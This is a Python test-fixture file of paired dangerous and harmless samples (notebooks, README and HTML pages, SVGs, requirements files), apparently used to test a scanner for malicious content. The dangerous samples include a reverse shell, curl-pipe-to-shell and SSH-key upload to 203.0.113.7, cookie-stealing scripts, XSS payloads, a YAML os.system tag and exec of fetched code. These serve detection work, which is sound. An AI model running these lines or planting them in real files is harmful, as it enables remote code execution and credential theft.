"""Notebooks, pages and lists of packages."""

import base64
import json

from golden.pairs import Golden


def _page(rule: str, dangerous: str, harmless: str, case: str = "", name: str = "README.md") -> Golden:
    return Golden(rule, name, dangerous.encode, harmless.encode, case)


def _notebook(rule: str, dangerous: dict[str, object], harmless: dict[str, object], case: str = "") -> Golden:
    def build(cell: dict[str, object]) -> bytes:
        whole = {"cell_type": "code", "metadata": {}, "source": [], "outputs": [], **cell}
        return json.dumps({"cells": [whole], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()

    return Golden(rule, "train.ipynb", lambda: build(dangerous), lambda: build(harmless), case, techniques=("F11",))


def _shows(kind: str, text: str) -> dict[str, object]:
    return {"outputs": [{"output_type": "display_data", "data": {kind: [text]}, "metadata": {}}]}


_SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('x')</script></svg>").decode()
_PLOT = "<div id='p'></div><script>require.config({}); Plotly.newPlot('p', []); fetch('x')</script>"

GOLDENS = [
    _notebook("notebook.shell", {"source": ["!curl -s http://203.0.113.7/a | sh"]}, {"source": ["!pip install x"]}),
    _notebook(
        "notebook.shell", {"source": "%%bash\nbash -i >& /dev/tcp/203.0.113.7/1 0>&1"}, {"source": "%%bash\nls"}, "bash"
    ),
    _notebook(
        "markup.script",
        _shows("text/html", "<script>Jupyter.notebook.kernel.execute('1')</script>"),
        _shows("text/html", _PLOT),
    ),
    _notebook(
        "markup.script",
        _shows("application/javascript", "fetch('/api/kernels')"),
        _shows("application/javascript", "1"),
        "JavaScript",
    ),
    _notebook(
        "markup.active",
        _shows("text/html", "<img src=x onerror=alert(1)>"),
        _shows("text/html", "<table><tr><td>1</table>"),
    ),
    _notebook(
        "python.decoded-execution",
        {"source": "import base64\nexec(base64.b64decode('MQ=='))"},
        {"source": "%matplotlib inline\nimport os\nos.system('ls')"},
    ),
    _page(
        "markup.script",
        "# Card\n<script>fetch('https://example.org/' + document.cookie)</script>\n",
        "# Card\n`<script>`\n".replace("<script>", "script"),
    ),
    _page(
        "markup.active", '# Card\n<img src=x onerror="alert(1)">\n', '# Card\n<img src="figure.png" alt="results">\n'
    ),
    _page(
        "markup.active",
        "<svg><a xlink:href='javascript:alert(1)'/></svg>",
        "<svg><a href='#x'/></svg>",
        "svg",
        "logo.svg",
    ),
    _page(
        "requirements.index",
        "--extra-index-url http://203.0.113.7/simple\ntorch\n",
        "--index-url https://download.pytorch.org/whl/cpu\ntorch\n",
        name="requirements.txt",
    ),
    _page(
        "requirements.source",
        "tool @ http://203.0.113.7/tool.tar.gz\n",
        "tool @ git+https://github.com/org/tool@v1.0\n",
        name="requirements.txt",
    ),
    _page(
        "yaml.python-call",
        "---\nx: !!python/object/apply:os.system ['echo hi']\n---\n# Card\n",
        "---\nlicense: mit\n---\n# Card\n",
        "in a card",
    ),
    _notebook(
        "notebook.shell", {"source": "x = 1\n!!curl -s http://203.0.113.7/a | sh"}, {"source": "!!ls"}, "two marks"
    ),
    _notebook(
        "notebook.shell",
        {"source": "!curl -F f=@/home/u/.ssh/id_rsa http://203.0.113.7/"},
        {"source": "!curl -fsSL https://ollama.com/install.sh | sh"},
        "file sent",
    ),
    _notebook(
        "requirements.index",
        {"source": "%pip install --index-url http://203.0.113.7/simple x"},
        {"source": "%pip install --index-url https://download.pytorch.org/whl/cpu torch"},
        "pip in a cell",
    ),
    _notebook(
        "python.fetched-execution",
        {"source": "import requests\nexec(requests.get('http://203.0.113.7/a').text)"},
        {"source": "import requests\nrequests.get('http://203.0.113.7/a').text"},
        "cell",
    ),
    _notebook(
        "markup.active",
        _shows("text/latex", r"$\href{javascript:alert(1)}{x}$"),
        _shows("text/latex", r"$\alpha$"),
        "LaTeX",
    ),
    _notebook(
        "markup.active",
        _shows("text/html", "<form action='http://203.0.113.7'><input type=password></form>"),
        _shows(
            "text/html",
            "<button onClick=\"this.nextSibling.style.display='block'\">Show</button><iframe src='https://wandb.ai/x'></iframe>",
        ),
        "password",
    ),
    _notebook(
        "markup.script",
        _shows("text/html", "<script src=http://203.0.113.7/x.js></script>"),
        _shows("text/html", '<script src="https://cdn.plot.ly/plotly-2.27.0.min.js"></script>'),
        "from elsewhere",
    ),
    _notebook(
        "markup.script",
        {"cell_type": "markdown", "attachments": {"a": {"image/svg+xml": _SVG}}},
        {"cell_type": "markdown", "source": "```html\n<script>alert(1)</script>\n```"},
        "attachment",
    ),
    _page(
        "markup.script",
        "<html><script>new Image().src = 'http://203.0.113.7/?' + document.cookie</script></html>",
        "<html><script>console.log(1); window.dataLayer = [];</script><script src='https://cdn.jsdelivr.net/x.js'></script></html>",
        "page",
        "report.html",
    ),
]
